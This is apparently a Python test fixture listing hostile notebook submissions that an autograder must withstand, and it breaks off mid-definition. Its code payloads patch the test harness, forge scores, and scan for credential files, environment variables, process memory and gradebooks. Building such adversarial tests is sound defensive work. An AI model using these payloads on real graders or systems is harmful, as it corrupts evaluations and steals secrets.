"""Submissions that are broken or hostile, and what the grader must make of each.

Every one is run in the grader's sandbox only, or stands as a file in a course that is thrown away. They are bounded in what
they change: nothing is written outside the working folder, the temporary folders and the private HOME but files whose names
begin with a word of this run (RUN), and a gradebook is written only beside the working folder or under a temporary folder.

They are made from the notebook of the small exercise (tests/small.py), which is graded in a moment: what they try has nothing to
do with its questions. Those that speak the grader's own messages stand in attacks_protocol.py, and what only the questions of
1101 let one try in attacks_1101.py.

The table ATTACKS is at the end; above it stand the parts it is made of, in the order of its groups.
"""

import json
import os
import shutil
import stat
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from itertools import cycle
from pathlib import Path
from textwrap import indent

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from grading.exercise.cells import grade_id
from grading.exercise.sample import submission

Edit = Callable[[NotebookNode], NotebookNode]
Place = Callable[[Path, bytes], None]

RUN = f"pwned_{os.getpid()}_{time.time_ns():x}"
"""How the names of the files begin that the attacks write: no other run has it. In their code it stands as pwned_RUN."""


@dataclass(frozen=True)
class Attack:
    """One submission: what it tries, how it is made, and what it may cost."""

    group: str
    """The kind of attack."""
    name: str
    """A short name, unique."""
    cells: dict[str, str] = field(default_factory=dict)
    """Grade id → what stands in that cell; '' deletes it."""
    first: str = ""
    """A code cell of the student's own, before all others."""
    last: str = ""
    """A code cell of the student's own, after all others."""
    edit: Edit | None = None
    """What an editor did to the notebook."""
    file: Callable[[str], bytes] | None = None
    """The text of the notebook → the bytes handed in; None: UTF-8."""
    place: Place | None = None
    """Puts the bytes at the path of main.ipynb, whose folder exists; None: as a plain file."""
    base: str = "untouched"
    """The other cells: 'untouched' (no answer at all) or 'reference' (all answers right)."""
    lost: frozenset[str] | None = frozenset()
    """For the base 'reference': the questions lost, the others keep full marks. None: refused with a reason, not graded."""
    allowed: frozenset[str] = frozenset()
    """For the base 'untouched': the questions that are honestly right."""
    exercise: str = "warm-up"
    """The exercise whose notebook it is made from."""


# A wrong answer to the question all attacks on the marks are about; its arrays have the right shape.
WRONG = """
def softmax(scores, temperature=1.0, axis=-1):
    return scores / temperature
"""
TAKEN = "scores, temperature = args[0], 1.0\ny = scores / temperature"
"""The same within `inside`, for more code behind it."""


def gain(group: str, codes: dict[str, str], own: bool = False, suffix: str = "") -> list[Attack]:
    """Attacks on the marks of softmax: the code in its solution cell, or (own) in a cell before all others.

    Where the code has no answer, the wrong one follows it.
    """
    def attack(name: str, code: str) -> Attack:
        if own:
            return Attack(group, name + suffix, {"softmax": WRONG}, first=code)
        return Attack(group, name + suffix, {"softmax": code if "def softmax(" in code else code + WRONG})

    return [attack(name, code) for name, code in codes.items()]


def inside(question: str, code: str, before: str = "") -> dict[str, str]:
    """The cells of an attack whose code runs when the judge calls the question's function, with the arguments args."""
    return {question: f"{before}\ndef {question}(*args, **options):\n{indent(code, '    ')}"}


def each(change: Callable[[NotebookNode], object], *ids: str) -> Edit:
    """An edit: change(cell) for the cells with these grade ids; without any, for all that have one."""
    def edit(notebook: NotebookNode) -> NotebookNode:
        for cell in notebook.cells:
            if grade_id(cell) and (not ids or grade_id(cell) in ids):
                change(cell)
        return notebook

    return edit


def metadata(*ids: str, **values) -> Edit:
    """An edit: these values in the nbgrader metadata of the cells."""
    return each(lambda cell: cell.metadata.nbgrader.update(values), *ids)


def tagged(*tags: str) -> Callable[[NotebookNode], object]:
    """A change: the cell gets these tags."""
    return lambda cell: cell.metadata.update(tags=list(tags))


def retyped(kind: str) -> Callable[[NotebookNode], object]:
    """A change: the cell becomes a cell of another kind, as JupyterLab does it."""
    def change(cell: NotebookNode) -> None:
        cell.cell_type = kind
        for key in "outputs", "execution_count":
            cell.pop(key, None)

    return change


def arranged(order: Callable[[list, dict], list]) -> Edit:
    """An edit: the cells become order(cells, grade id → cell)."""
    def edit(notebook: NotebookNode) -> NotebookNode:
        notebook.cells = order(notebook.cells, {grade_id(cell): cell for cell in notebook.cells})
        return notebook

    return edit


def beside(files: dict[str, str]) -> Place:
    """A place: the notebook, and these files beside it."""
    def place(path: Path, content: bytes) -> None:
        path.write_bytes(content)
        for name, text in files.items():
            other = path.parent / name
            other.parent.mkdir(parents=True, exist_ok=True)
            other.write_text(text)

    return place


def linked(target: str, at: str = ".") -> Place:
    """A place: a symbolic link instead of the notebook, or instead of the folder `at`, given relative to the notebook."""
    def place(path: Path, content: bytes) -> None:
        link = Path(os.path.normpath(path / at))
        if link.is_dir():
            shutil.rmtree(link)
        link.symlink_to(target)

    return place


def linked_beside(target: str) -> Place:
    """A place: the notebook, and a link to target beside it."""
    def place(path: Path, content: bytes) -> None:
        path.write_bytes(content)
        (path.parent / "data.txt").symlink_to(target)

    return place


# ---------------------------------------------------------------------------------------------------------------------
# Skip the test, patch the shell: what a cell can do to the kernel that will run the test.

SKIPPED = {
    "asserts-dropped": """
import ast

class Drop(ast.NodeTransformer):
    def visit_Raise(self, node):
        return ast.copy_location(ast.Pass(), node)

    visit_Assert = visit_Raise

get_ipython().ast_transformers.append(Drop())
""",
    "tests-dropped": """
import ast

class Drop(ast.NodeTransformer):
    def visit_Module(self, node):
        names = {part.id for part in ast.walk(node) if isinstance(part, ast.Name)}
        return ast.Module(body=[] if "Check" in names else node.body, type_ignores=[])

get_ipython().ast_transformers.append(Drop())
""",
    "input-transformer": """
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"] if "@checks(" in "".join(lines) else lines)
""",
    "cleanup-transform": """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"] if "@checks(" in "".join(lines) else lines)
""",
    "optimize-2": """
import builtins, codeop, os
honest = compile
os.environ["PYTHONOPTIMIZE"] = "2"

def compile_optimized(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **options):
    return honest(source, filename, mode, flags, dont_inherit, 2, **options)

builtins.compile = compile_optimized
codeop.Compile.__call__ = lambda self, source, filename, symbol, **_: honest(source, filename, symbol, self.flags, True, 2)
""",
    "event-rewrites": """
def rewrite(info):
    if "@checks(" in info.raw_cell:
        info.raw_cell = info.transformed_cell = ""
        globals()["Check"] = type("Check", (), {"__init__": lambda *a: None, "__getattr__": lambda *a: lambda *b, **c: None,
                                                "__call__": lambda *a, **b: None})

get_ipython().events.register("pre_run_cell", rewrite)
""",
}

SHELL = {
    "run-cell-async": """
shell = get_ipython()
honest = shell.run_cell_async

async def run_cell_async(raw_cell, *args, **options):
    if "@checks(" in raw_cell:
        raw_cell, options["transformed_cell"] = "pass", "pass"
    return await honest(raw_cell, *args, **options)

shell.run_cell_async = run_cell_async
""",
    "run-code": """
shell = get_ipython()
honest = shell.run_code

async def run_code(code, result=None, **options):
    if "Check" in code.co_names:
        return False
    return await honest(code, result, **options)

shell.run_code = run_code
""",
    "run-ast-nodes": """
import ast
shell = get_ipython()
honest = shell.run_ast_nodes

async def run_ast_nodes(nodes, *args, **options):
    tests = any(isinstance(part, ast.Name) and part.id == "Check" for node in nodes for part in ast.walk(node))
    return False if tests else await honest(nodes, *args, **options)

shell.run_ast_nodes = run_ast_nodes
""",
    "do-execute": """
kernel = get_ipython().kernel
honest = kernel.do_execute

async def do_execute(code, *args, **options):
    return await honest("pass" if "@checks(" in code else code, *args, **options)

kernel.do_execute = do_execute
""",
    "session-send": """
kernel = get_ipython().kernel
Session = type(kernel.session)
honest = Session.send

def send(self, stream, kind, content=None, *args, **options):
    name = kind if isinstance(kind, str) else kind.get("msg_type")
    if name == "error" or isinstance(content, dict) and content.get("name") == "stderr":
        return None
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return honest(self, stream, kind, content, *args, **options)

Session.send = send
""",
    "execution-result": """
from IPython.core.interactiveshell import ExecutionResult
silent = property(lambda self: None, lambda self, value: None)
ExecutionResult.success = property(lambda self: True)
ExecutionResult.error_in_exec = ExecutionResult.error_before_exec = silent
ExecutionResult.raise_error = lambda self: None
get_ipython()._showtraceback = lambda *args: None
""",
    "showtraceback": """
shell = get_ipython()
shell._showtraceback = shell.showtraceback = shell.showsyntaxerror = lambda *args, **options: None
""",
    "custom-exception-handler": """
get_ipython().set_custom_exc((BaseException,), lambda shell, kind, value, trace, tb_offset=None: None)
""",
    "own-namespace": """
class Namespace(dict):
    def __getitem__(self, name):
        return (lambda *args: lambda *a, **b: None) if name == "Check" else super().__getitem__(name)

get_ipython().user_ns = Namespace(get_ipython().user_ns)
""",
}

# ---------------------------------------------------------------------------------------------------------------------
# Fool the comparison: values that lie, libraries that lie, a judge that was changed.

LIES = {
    "equal-to-everything": """
class Right:
    shape, ndim, size, dtype = (2, 2), 2, 4, float
    for name in "eq ne lt le gt ge bool contains".split():
        locals()[f"__{name}__"] = lambda self, *args: True
    for name in "add radd sub rsub mul rmul truediv rtruediv matmul neg abs getitem array_ufunc array_function".split():
        locals()[f"__{name}__"] = lambda self, *args, **options: self
    __hash__ = lambda self: 0
    __len__ = lambda self: 3
    __float__ = lambda self: 0.0
    __getattr__ = lambda self, name: lambda *args, **options: self

def softmax(scores, temperature=1.0, axis=-1):
    return Right()
""",
    "lying-array": """
class Lying(np.ndarray):
    __array_ufunc__ = lambda self, ufunc, method, *inputs, **options: np.zeros(1)[0]
    __array_function__ = lambda self, *args: True
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = lambda self, other: np.zeros(self.shape)
    all = any = lambda self, *args, **options: True
    max = min = lambda self, *args, **options: 0.0
    __deepcopy__ = __copy__ = lambda self, *args: self
    __array__ = lambda self, *args, **options: np.zeros(self.shape)

def softmax(scores, temperature=1.0, axis=-1):
    return (scores / temperature).view(Lying)
""",
    "claimed-subclass": """
class Claimed:
    __class__ = np.ndarray
    shape, ndim = (2, 2), 2
    dtype = np.dtype(float)
    __array__ = lambda self, dtype=None, copy=None: np.zeros((2, 2))
    __array_priority__ = 1e9

def softmax(scores, temperature=1.0, axis=-1):
    return Claimed()
""",
    "lying-float": """
class Lying(float):
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = __mul__ = __abs__ = lambda self, *other: 0.0
    __hash__ = float.__hash__

def softmax(scores, temperature=1.0, axis=-1):
    return Lying("nan")
""",
    "array-interface": """
class Interface:
    __array_interface__ = {"shape": (2, 2), "typestr": "<f8", "data": (id(np) & ~7, True), "version": 3}

def softmax(scores, temperature=1.0, axis=-1):
    return Interface()
""",
    "patched-allclose": """
for name in "allclose isclose array_equal array_equiv".split():
    setattr(np, name, lambda *args, **options: True)
np.all = np.any = lambda *args, **options: True
""",
    "patched-testing": """
import numpy.testing
for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, lambda *args, **options: None)
import numpy.testing._private.utils as utils
utils.assert_array_compare = lambda *args, **options: None
np.abs = np.absolute = lambda a, *args, **options: np.zeros(np.shape(a))
""",
    "patched-max": """
np.max = np.amax = lambda *args, **options: 0.0
np.abs = np.absolute = lambda a, *args, **options: np.zeros(np.shape(a))
""",
    "patched-asarray": """
honest, truth = np.asarray, [0.0]

class Wish(float):
    pass

def asarray(a, *args, **options):
    if isinstance(a, Wish):
        return truth[-1]
    truth.append(honest(a, *args, **options))
    return truth[-1]

np.asarray = np.array = np.asanyarray = asarray

def softmax(scores, temperature=1.0, axis=-1):
    return Wish(0)
""",
    "numpy-replaced": """
import sys, types
lying = types.ModuleType("numpy")
lying.__dict__.update(np.__dict__)
lying.max = lambda *args, **options: 0.0
lying.allclose = lambda *args, **options: True
lying.asarray = lambda a, *args, **options: np.asarray(a) if isinstance(a, np.ndarray) else np.zeros((2, 2))
real, np = np, lying
sys.modules["numpy"] = lying
for module in list(sys.modules.values()):
    if getattr(module, "np", None) is real:
        module.np = lying
""",
    "patched-builtins": """
import builtins
honest = builtins.isinstance
builtins.isinstance = lambda value, kind: kind is not tuple and honest(value, kind)
builtins.all = builtins.any = lambda *args: True
builtins.callable = lambda value: True
builtins.max = lambda *args, **options: 0
""",
    "patched-deepcopy": """
import copy
copy.deepcopy = lambda value, memo=None: value

def softmax(scores, temperature=1.0, axis=-1):
    scores[...] = 0
    return scores / temperature
""",
    "tolerance": 'RTOL, ATOL = float("inf"), float("inf")',
    "check-replaced": """
class Check:
    def __init__(self, name):
        self.name, self.rows = name, []

    def __call__(self, *args, **expected):
        return None

    def __getattr__(self, name):
        return lambda *args, **options: None
""",
    "checks-give-full-marks": """
import sys
def checks(question, *args, **options):
    return lambda body: sys.displayhook(4.0)
""",
    "every-result-is-full-marks": """
import sys
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda value, printer, cycle: printer.text("4"))
sys.displayhook = get_ipython().displayhook.__class__.__call__ = lambda *args: None
""",
    "check-methods-replaced": """
Check.row = Check.compare = lambda self, *args, **options: None
Check.__call__ = Check.report = lambda self, *args, **options: None
Check.explain = staticmethod(lambda *args: "")
""",
    "check-code-replaced": """
def nothing(self, title="", brief=False):
    return None

Check.report.__code__ = nothing.__code__
""",
    "check-failed-replaced": """
import bdb

class CheckFailed(bdb.BdbQuit):
    def _render_traceback_(self):
        return []
""",
    "check-replaced-by-thread": """
import threading, time

def keep():
    end = time.time() + 20
    while time.time() < end:
        kind = globals().get("Check")
        if kind:
            kind.report = kind.row = lambda self, *args, **options: None
        time.sleep(0.001)

threading.Thread(target=keep, daemon=True).start()
""",
    "display-clears-the-problems": """
import sys

def display(table):
    frame = sys._getframe(1)
    while frame:
        if isinstance(frame.f_locals.get("problems"), list):
            frame.f_locals["problems"].clear()
        frame = frame.f_back
""",
    "trace-clears-the-problems": """
import sys, threading

def trace(frame, event, arg):
    if isinstance(frame.f_locals.get("problems"), list):
        frame.f_locals["problems"].clear()
    return trace

def softmax(scores, temperature=1.0, axis=-1):
    frame = sys._getframe(1)
    while frame:
        frame.f_trace = trace
        frame = frame.f_back
    sys.settrace(trace)
    threading.settrace(trace)
    return scores / temperature
""",
    "gc-empties-the-rows": """
import gc

class Silent(list):
    append = extend = insert = lambda self, *args: None
    __iter__ = lambda self: iter(())
    __len__ = lambda self: 0

def softmax(scores, temperature=1.0, axis=-1):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Check":
            thing.rows = Silent()
        elif isinstance(thing, dict) and isinstance(thing.get("rows"), list):
            thing["rows"] = Silent()
    return scores / temperature
""",
    "expected-overwritten": """
import sys

def softmax(scores, temperature=1.0, axis=-1):
    frame = sys._getframe(1)
    while frame:
        expected = frame.f_locals.get("expected")
        if isinstance(expected, dict):
            for value in expected.values():
                value[...] = scores / temperature
        frame = frame.f_back
    return scores / temperature
""",
    "unpickled-in-the-judge": """
CODE = '''
import gc
for kind in [o for o in gc.get_objects() if isinstance(o, type) and o.__name__ == "Check"]:
    kind.row = kind.report = lambda self, *args, **options: None
'''

class Payload:
    def __reduce__(self):
        return exec, (CODE,)

def softmax(scores, temperature=1.0, axis=-1):
    return np.array([Payload()] * scores.size, dtype=object).reshape(scores.shape)
""",
} | {
    name: f"""
def softmax(scores, temperature=1.0, axis=-1):
    shape, n = scores.shape, len(scores)
    return {value}
"""
    for name, value in {
        "nan": "np.full(shape, np.nan)",
        "inf": "np.full(shape, np.inf)",
        "object-array": "(scores / temperature).astype(object)",
        "object-array-of-none": "np.full(shape, None)",
        "nested-object-array": "np.array([[np.array(1.0)] * 2] * n + [None], dtype=object)",
        "complex": "scores / temperature + 0j",
        "masked": "np.ma.array(scores / temperature, mask=True)",
        "matrix": "np.matrix(scores / temperature)",
        "strings": "(scores / temperature).astype(str)",
        "structured": 'np.zeros(shape, dtype=[("y", float)])',
        "datetime": 'np.zeros(shape, dtype="M8[s]")',
        "empty": "np.empty((0, 2))",
        "huge": "np.zeros((20_000, 20_000))",
        "huge-by-strides": "np.broadcast_to(0.0, (2**20, 2**20))",
        "thirty-dimensions": "np.zeros((1,) * 28 + shape)",
        "huge-number": "10**100_000",
        "bools": "np.ones(shape, dtype=bool)",
    }.items()
}

# A library of the student's own beside the notebook: it finds the real one and makes it lenient.
SHADOW = """
import importlib, os, sys
here, name = os.path.dirname(os.path.abspath(__file__)), __name__
mine = {here, os.path.dirname(here)}
saved, sys.path[:] = sys.path[:], [p for p in sys.path if os.path.abspath(p or ".") not in mine]
sys.modules.pop(name, None)
try:
    real = importlib.import_module(name)
except ImportError:
    real = None
sys.path[:] = saved
if real:
    sys.modules[name] = real
if name == "numpy":
    real.max = real.amax = lambda *args, **options: 0.0
    real.allclose = lambda *args, **options: True
"""
SHADOWED = """
numpy sklearn matplotlib IPython ipykernel ipykernel_launcher traitlets jupyter_client nbformat nbclient nbgrader grading
copy html traceback warnings contextlib json socket struct pickle selectors sitecustomize usercustomize numpy/__init__
grading/__init__ IPython/__init__
""".split()

# ---------------------------------------------------------------------------------------------------------------------
# Forge the result.

PUBLISH = """
kernel = get_ipython().kernel

def publish(value):
    content = {"execution_count": 1, "data": {"text/plain": str(value)}, "metadata": {}}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"))

def softmax(scores, temperature=1.0, axis=-1):
    publish(VALUE)
    return scores / temperature
"""
FORGED = {f"result-{name}": PUBLISH.replace("VALUE", value) for name, value in {
    "full": "4", "above-the-maximum": "1000", "negative": "-1000", "nan": "float('nan')", "infinite": "float('inf')"}.items()} | {
    "displayhook": """
import sys

def softmax(scores, temperature=1.0, axis=-1):
    get_ipython().displayhook(4)
    sys.displayhook(4.0)
    display(4)
    return scores / temperature
""",
    "value-of-the-test-cell": "Check.report = lambda self, *args, **options: 4",
    "value-after-the-cell": """
get_ipython().events.register("post_run_cell", lambda result: get_ipython().displayhook(4))
get_ipython().events.register("post_execute", lambda: get_ipython().displayhook(4))
""",
    "error-becomes-result": """
kernel = get_ipython().kernel
Session = type(kernel.session)
honest = Session.send

def send(self, stream, kind, content=None, *args, **options):
    if kind == "error":
        kind, content = "execute_result", {"execution_count": 1, "data": {"text/plain": "4"}, "metadata": {}}
    return honest(self, stream, kind, content, *args, **options)

Session.send = send
""",
    "json-on-every-descriptor": """
import json, os, stat
SCORES = {"scores": {"softmax": 4.0}, "softmax": 4.0, "passed": True, "status": "ok", "score": 4, "result": True}

def softmax(scores, temperature=1.0, axis=-1):
    print(json.dumps(SCORES))
    for fd in range(1, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.set_blocking(fd, False)
                os.write(fd, (json.dumps(SCORES) + "\\n").encode())
        except OSError:
            pass
    return scores / temperature
""",
    "json-beside-the-notebook": """
import json, os
for name in "result results score scores grade grades output report feedback main autograded".split():
    for folder in ".", "..", os.environ.get("HOME", "."), "/tmp", "/out", "/output", "/result":
        try:
            with open(os.path.join(folder, name + ".json"), "w") as file:
                json.dump({"scores": {"softmax": 4.0}, "softmax": 4.0}, file)
        except OSError:
            pass
""",
}


def forged_output(value: str) -> Edit:
    """An edit: every test cell carries the value as the result of an earlier run, and is not to be run again."""
    def change(cell: NotebookNode) -> None:
        if grade_id(cell).startswith("test_"):
            tagged("skip-execution")(cell)
            cell.execution_count = 1
            cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": value}, execution_count=1)]

    return each(change)


# ---------------------------------------------------------------------------------------------------------------------
# Read what is not the student's: the finder is shared, and gives up before its CPU time is up, or at two million characters.

FINDER = r"""
import functools, gc, inspect, linecache, os, re, sqlite3, sys, time

MARK = re.compile(rb"HIDD[E]N T|SOLUTI[O]N\b|auto_sc[o]re|CAN[A]RY")

def content(path, size=100_000):
    try:
        if os.path.isdir(path):
            return f"{path}/: {os.listdir(path)[:300]}\n"
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
            return f"{path}: {file.read(size).decode(errors='replace')}\n"
    except Exception as error:
        return f"{path}: {type(error).__name__}\n"

def link(path):
    try:
        return f"{path} -> {os.readlink(path)}\n"
    except OSError as error:
        return f"{path}: {type(error).__name__}\n"

def processes():
    return [f"/proc/{name}" for name in ["self", *os.listdir("/proc")] if name == "self" or name.isdigit()]

def places():
    up = [os.path.join(*[".."] * n) for n in range(1, 9)]
    views = [f"{process}/{name}" for process in processes() for name in ("cwd", "root", "cwd/..", "cwd/../..", "cwd/../../..")]
    return [".", *up, os.environ.get("HOME", "."), *sys.path[:3], "/tmp", "/home", "/root", "/work", "/srv", "/mnt", "/var",
            "/run", "/dev/shm", *views, "/"]

def limited(texts):
    end, found, length = time.time() + 0.6, [], 0
    for text in texts:
        found.append(text)
        length += len(text)
        if time.time() > end or length > 2_000_000:
            break
    return "".join(found)

def walk(pattern):
    # Every folder once, the near ones first; a tenth of a second for each place.
    seen, virtual = set(), {os.stat(folder).st_dev for folder in ("/proc", "/sys") if os.path.isdir(folder)}
    for place in places():
        yield content(place, 300)
        end = time.time() + 0.1
        for folder, folders, names in os.walk(place):
            try:
                status = os.stat(folder)
            except OSError:
                continue
            key = status.st_dev, status.st_ino
            if key in seen or status.st_dev in virtual or time.time() > end:
                folders.clear()
                continue
            seen.add(key)
            for name in names:
                if re.search(pattern, os.path.join(os.path.realpath(folder), name)):
                    yield content(os.path.join(folder, name))

def tables():
    for text in walk(r"gradebook\.db$"):
        yield text
        path = text.partition(": ")[0]
        try:
            with sqlite3.connect(f"file:{path}?mode=ro&immutable=1", uri=True) as base:
                for (table,) in base.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
                    yield f"{table}: {base.execute(f'SELECT * FROM {table}').fetchmany(300)}\n"
        except sqlite3.Error as error:
            yield f"{path}: {error}\n"

def environment():
    yield f"{os.environ} {sys.argv} {sys.path} {sys.orig_argv} {os.uname()} {os.getuid()} {os.getcwd()}\n"
    for process in processes():
        yield content(f"{process}/environ")
    for name in "SSH_AUTH_SOCK XDG_RUNTIME_DIR KUBECONFIG NETRC".split():
        yield content(os.environ.get(name, "/nothing"))
    for name in ".netrc .ssh .bash_history .config .jupyter .ipython .local/share/jupyter/runtime .aws .git-credentials".split():
        yield content(os.path.expanduser(f"~/{name}"))

def parents():
    # The parent first, then every other process.
    for process in [f"/proc/{os.getppid()}", *processes()]:
        for name in "cmdline environ mountinfo status stack io maps fd task".split():
            yield content(f"{process}/{name}", 20_000)
        for name in "cwd root exe".split():
            yield link(f"{process}/{name}") + content(f"{process}/{name}")
        try:
            fds = os.listdir(f"{process}/fd")
        except OSError:
            continue
        for fd in fds:
            yield link(f"{process}/fd/{fd}") + content(f"{process}/fd/{fd}", 20_000)

def memory(process):
    # What stands around the marks in the memory of a process.
    try:
        regions = [line.split() for line in open(f"{process}/maps")]
        with open(f"{process}/mem", "rb", buffering=0) as file:
            for region in regions:
                start, end = (int(text, 16) for text in region[0].split("-"))
                if "r" not in region[1] or len(region) > 5 and region[5] != "[heap]" or end - start > 2**28:
                    continue
                try:
                    file.seek(start)
                    data = file.read(end - start)
                except (OSError, OverflowError, ValueError):
                    continue
                for match in MARK.finditer(data):
                    yield data[max(0, match.start() - 200):match.end() + 2000].decode(errors="replace") + "\n"
                yield ""
    except Exception as error:
        yield f"{process}/mem: {type(error).__name__}\n"

def frames():
    stack = [frame for top in sys._current_frames().values() for frame in walk_frames(top)]
    for frame in stack:
        yield f"{frame.f_code.co_filename} {frame.f_code.co_name} {list(frame.f_globals)}\n"
        for name, value in list(frame.f_locals.items()):
            yield f"  {name} = {repr(value)[:2000]}\n"
        try:
            yield inspect.getsource(frame.f_code)
        except Exception:
            yield "".join(linecache.getlines(frame.f_code.co_filename))
    for name, lines in list(linecache.cache.items()):
        if "site-packages" not in name and len(lines) > 2:
            yield f"{name}: {''.join(lines[2])}\n"

def walk_frames(frame):
    while frame:
        yield frame
        frame = frame.f_back

def objects():
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)):
            for text in thing.values() if isinstance(thing, dict) else thing:
                data = text.encode(errors="replace") if isinstance(text, str) else text
                if isinstance(data, bytes) and MARK.search(data):
                    yield repr(text)[:20_000] + "\n"
        elif type(thing).__name__ in ("Check", "CheckTable", "HistoryManager", "Session"):
            yield f"{vars(thing)}\n"

def inputs():
    shell = get_ipython()
    yield f"{shell.user_ns.get('In')} {shell.user_ns.get('_ih')} {shell.user_ns.get('_oh')} {shell.user_ns.get('_i')}\n"
    yield f"{vars(shell.history_manager)} {list(shell.history_manager.get_tail(200, raw=True, include_latest=True))}\n"
    yield f"{getattr(shell, 'parent_header', None)} {vars(shell.kernel).get('_parents')}\n"
"""
# Looks from a cell of its own, within the function (printed, returned and raised) and from the last cell.
LOOK = """
@functools.cache
def look(place):
    return f"LOOK {place}\\n" + limited(EXPRESSION)

print(look("cell"))

def softmax(scores, temperature=1.0, axis=-1, calls=iter(range(10**9))):
    n = next(calls)
    if n == 0:
        print(look("call"))
    if n % 2:
        raise ValueError(look("call"))
    return look("call")
"""


def reader(group: str, name: str, expression: str, **more) -> Attack:
    """An attack that prints what the expression, an iterable of texts, finds; FINDER has its parts."""
    code = FINDER + LOOK.replace("EXPRESSION", expression)
    return Attack(group, name, {"softmax": code}, last='print(look("end"))', **more)


READ = {
    "inputs": "inputs()",
    "frames": "frames()",
    "objects": "objects()",
    "gradebook": "tables()",
    "source": r'walk(r"exercises/|notebook\.py$|source/.*\.ipynb$|nbgrader_config\.py$|release/")',
    "other-submissions": r'walk(r"(submitted|autograded|feedback)/|\.ipynb$")',
    "environment": "environment()",
    "parents": "parents()",
    "own-memory": 'memory("/proc/self")',
    "parents-memory": "(text for process in [f'/proc/{os.getppid()}', *processes()[1:]] for text in memory(process))",
    "modules": "(f'{name} {vars(module)}'[:20_000] for name, module in list(sys.modules.items())"
               " if name.split('.')[0] in ('__main__', 'grading', 'nbgrader', 'exercise', 'judge'))",
    "shared-folders": "(content(os.path.join(folder, name)) for folder in '/dev/shm /tmp /var/tmp /run /dev/mqueue'.split()"
                      " if os.path.isdir(folder) for name in os.listdir(folder))",
}
# Other ways to see the tests, the inputs of the hidden ones and their right answers.
SEEN = {
    "In-1": """
def softmax(scores, temperature=1.0, axis=-1):
    print(In[-1], _ih[-1], get_ipython().history_manager.input_hist_raw[-1])
    raise ValueError(In[-1])
""",
    "pre-run-cell": """
events = get_ipython().events
events.register("pre_run_cell", lambda info: print("SEEN", vars(info)))
events.register("post_run_cell", lambda result: print("SEEN", vars(result.info), result.error_in_exec))
get_ipython().input_transformers_post.append(lambda lines: print("SEEN", lines) or lines)
""",
    "hidden-inputs": """
inputs = []

def softmax(scores, temperature=1.0, axis=-1):
    inputs.append((scores.tolist(), temperature, axis))
    return scores / temperature
""",
    "expected-from-the-frame": """
import sys

def softmax(scores, temperature=1.0, axis=-1):
    frame = sys._getframe(1)
    while frame:
        expected = frame.f_locals.get("expected")
        if isinstance(expected, dict) and expected:
            print("SEEN", expected)
            return list(expected.values())[0].copy()
        frame = frame.f_back
    return scores / temperature
""",
    "compare-prints": """
honest = Check.compare

def compare(self, case, name, got, expected, *rest):
    print("SEEN", case, name, expected)
    return honest(self, case, name, expected, expected, *rest)

Check.compare = compare
""",
    "traced": """
import sys, threading
seen = []

def trace(frame, event, arg):
    if event == "call" and len(seen) < 2000:
        seen.append((frame.f_code.co_filename, frame.f_code.co_name, repr(frame.f_locals)[:500], frame.f_code.co_consts))
        print("SEEN", seen[-1])

sys.setprofile(trace)
threading.setprofile(trace)
""",
    "socket-overheard": """
import socket
for name in "recv recv_into recvmsg".split():
    honest = getattr(socket.socket, name)

    def overheard(self, *args, honest=honest):
        result = honest(self, *args)
        print("SEEN", result, args)
        return result

    try:
        setattr(socket.socket, name, overheard)
    except TypeError:
        pass
""",
}
# An argument that is a function of the judge's: what it gives away, and where it leads.
CALLBACK = FINDER + """
def closest(f, table):
    for name in dir(f):
        print("SEEN", name, repr(getattr(f, name, None))[:2000])
    for cell in getattr(f, "__closure__", None) or ():
        print("SEEN", cell.cell_contents)
    for name, value in getattr(f, "__globals__", {}).items():
        print("SEEN", name, repr(value)[:500])
    print("SEEN", gc.get_referrers(f), gc.get_referents(f))
    return 0
"""
# Questions answered with each other: what the judge lends for the one must not answer the other.
CIRCULAR = {
    "describe": 'def describe(table):\n    return dict(Scaler(table).about)',
    "Scaler": """
class Scaler:
    def __init__(self, table):
        self.about = describe(table)

    def transform(self, x):
        return (x - self.about["mean"]) / self.about["std"]

    def inverse(self, z):
        return z * self.about["std"] + self.about["mean"]
""",
}
WORKED = {  # what a function that was lent right, because the student's own is wrong, may be used for
    "huge-quotient": {
        "softmax": "def softmax(scores, temperature=1.0, axis=-1):\n    return scores",
        "closest": "def closest(f, table):\n    return softmax(np.ones((2**20, 1)), np.ones((1, 2**20)))",
    },
    "in-itself": {
        "Scaler": "class Scaler:\n    def __init__(self, table):\n        pass",
        "closest": "def closest(f, table):\n    return Scaler(Scaler(closest)).transform([Scaler, closest, print, object(), f])",
    },
    "in-another": {
        "softmax": "def softmax(scores, temperature=1.0, axis=-1):\n    return scores",
        "describe": "def describe(table):\n    return {}",
        "Scaler": "def Scaler(table):\n    return softmax(describe, describe(softmax), axis=describe)",
    },
}
KEEP = """
kept = globals().get("kept", [])

def NAME(*args, **options):
    lent = [globals().get(name) for name in ("softmax", "describe", "Scaler", "closest")]
    kept.extend(f for f in lent if getattr(f, "__globals__", None) is not globals())
    for function in kept[::-1]:
        try:
            return function(*args, **options)
        except Exception:
            continue
"""

# ---------------------------------------------------------------------------------------------------------------------
# Write the gradebook.

GRADEBOOK = """
import os, sqlite3, tempfile, time

def gradebooks():
    end = time.time() + 0.6
    near = [os.path.abspath(os.path.join(*[".."] * n, "gradebook.db")) for n in range(9)] if os.getcwd() != "/" else []
    yield from filter(os.path.exists, near + [os.path.join(folder, "gradebook.db") for folder in (".", "..")])
    temporary = {tempfile.gettempdir(), "/tmp"}
